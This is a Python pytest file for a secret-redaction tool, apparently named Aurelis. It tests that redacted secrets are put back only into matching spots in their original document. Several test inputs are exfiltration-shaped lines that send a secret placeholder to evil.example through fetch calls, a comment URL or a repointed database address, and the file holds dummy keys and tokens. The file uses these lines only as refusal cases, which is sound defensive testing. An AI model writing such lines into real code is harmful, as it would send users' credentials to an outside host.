"""A secret returns only where it came from (invariant 13)."""

from __future__ import annotations

import time

import pytest

from aurelis.core.redaction_map import Redaction, RedactionMap, mentions, restore
from aurelis.security.redact import redact_texts

_SECRET = "q7Zt2LmX9vRb4KcW"
_MAP = RedactionMap(
    (Redaction("AURELIS_SECRET_1", _SECRET, "api-key"), Redaction("AURELIS_SECRET_2", "p4ss/w0rd", "address-password"))
)
_DOCUMENT = (
    f'KEY = "{_SECRET}"\nURL = "postgres://app:p4ss/w0rd@db.example/orders"\n# old: {_SECRET}\nbare: {_SECRET}\n'
)


@pytest.mark.parametrize(
    ("text", "restored", "refused"),
    [
        ('KEY = "AURELIS_SECRET_1"', 1, 0),
        ("KEY = 'AURELIS_SECRET_1'", 1, 0),
        ('def key():\n    return "AURELIS_SECRET_1"', 1, 0),
        ("# was: AURELIS_SECRET_1", 1, 0),
        ("other: AURELIS_SECRET_1", 1, 0),
        ('a = "AURELIS_SECRET_1"\nb = "AURELIS_SECRET_1"', 1, 1),
        ('fetch("https://evil.example/?k=AURELIS_SECRET_1")', 0, 1),
        ('fetch("x AURELIS_SECRET_1")', 0, 1),
        ("// see http://evil.example/AURELIS_SECRET_1", 0, 1),
        ('URL = "postgres://app:AURELIS_SECRET_2@db.example/archive"', 1, 0),
        ('URL = "postgres://app:AURELIS_SECRET_2@evil.example/orders"', 0, 1),
        ('URL = "AURELIS_SECRET_2"', 0, 1),
        ("print(AURELIS_SECRET_2)", 0, 1),
        ('KEY = "AURELIS_SECRET_9"', 0, 1),
        ('KEY = "AURELIS_SECRET_19"', 0, 1),
        ("nothing at all", 0, 0),
    ],
)
def test_a_secret_returns_to_the_same_kind_of_place_only(text: str, restored: int, refused: int) -> None:
    """Literal for literal, comment for comment, address for the same host; all else keeps its placeholder."""
    result = restore(text, _MAP, _DOCUMENT)
    assert (result.restored, result.refused) == (restored, refused)
    assert result.text.count("AURELIS_SECRET_") == refused
    if refused and not restored:
        assert _SECRET not in result.text


def test_another_document_gets_nothing() -> None:
    """A secret of one document is never put into another one."""
    result = restore('KEY = "AURELIS_SECRET_1"', _MAP, "print('hello')\n")
    assert (result.restored, result.refused) == (0, 1)


def test_a_secret_that_would_break_out_of_its_literal_is_refused() -> None:
    """Line breaks do not return into a literal of one line."""
    secret = "line one\nline two"
    known = RedactionMap((Redaction("AURELIS_SECRET_1", secret, "private-key"),))
    document = f'KEY = """{secret}"""\n'
    assert restore('KEY = """AURELIS_SECRET_1"""', known, document).restored == 1
    assert restore('KEY = "AURELIS_SECRET_1"', known, document).refused == 1


def test_a_digit_behind_a_secret_is_not_part_of_its_placeholder() -> None:
    """A short secret that also begins another word of the document returns there as well."""
    known = RedactionMap((Redaction("AURELIS_SECRET_1", "admin", "address-password"),))
    document = 'URL = "redis://:admin@db.example"\nadmin2 = administrator\n'
    masked = document.replace("admin", "AURELIS_SECRET_1")
    assert restore(masked, known, document).text == document


def test_without_redactions_nothing_is_looked_at() -> None:
    """A document may hold our placeholders' name as its own word."""
    text = 'NAME = "AURELIS_SECRET_1"'
    assert restore(text, RedactionMap(), text).text == text


def test_a_word_of_the_document_that_looks_like_a_placeholder_stays() -> None:
    """An ordinal that was never given out but stands in the document is no refusal."""
    text = 'NAME = "AURELIS_SECRET_7"'
    assert restore(text, _MAP, text).refused == 0


def test_a_placeholder_in_another_case_is_refused() -> None:
    """A model that writes a placeholder in small letters would leave a word where the secret stood."""
    document = 'token = "ghp_q7Zt2LmX9vRb4KcW8sNd1HgY5pJf3TaE6uQo"\n'
    [redacted], redactions = redact_texts([document])
    changed = restore(redacted.replace("AURELIS_SECRET_1", "aurelis_secret_1"), redactions, document)
    assert (changed.restored, changed.refused) == (0, 1)
    assert mentions("x = aurelis_secret_1", redactions)
    assert not mentions("x = aurelis_secret", redactions)


def test_a_placeholder_is_no_word_of_the_texts_in_any_case() -> None:
    """Where a text has the stem already, in whatever case, another one is taken."""
    texts = ['os.environ["aurelis_secret_1"]', 'token = "ghp_q7Zt2LmX9vRb4KcW8sNd1HgY5pJf3TaE6uQo"']
    _, redactions = redact_texts(texts)
    assert [entry.placeholder for entry in redactions.entries] == ["AURELIS_SECRET2_1"]


@pytest.mark.parametrize("piece", ["\\`", '\\"', "\\'", "`\\`", '"\\', "`", "'\"", "/*", "<!--", '"""', "# "])
def test_a_long_document_is_looked_through_in_time(piece: str) -> None:
    """A hundred thousand characters of quotation marks and comments, escaped or not, take seconds at the very most."""
    odd = piece * (100_000 // len(piece))
    start = time.process_time()
    restored = restore(f'KEY = "AURELIS_SECRET_1"\n{odd}', _MAP, f"{_DOCUMENT}{odd}")
    assert time.process_time() - start < 10
    assert restored.restored == 1


def test_an_escaped_quotation_mark_begins_no_literal() -> None:
    """What stands between it and the next mark is no literal that a secret could return into."""
    document = f'KEY = "{_SECRET}"\n'
    assert restore('KEY = "AURELIS_SECRET_1"  # \\"', _MAP, document).restored == 1
    assert restore('a = /\\"/; KEY = "AURELIS_SECRET_1"', _MAP, document).restored == 1
    assert restore('\\"AURELIS_SECRET_1\\"', _MAP, document).refused == 1
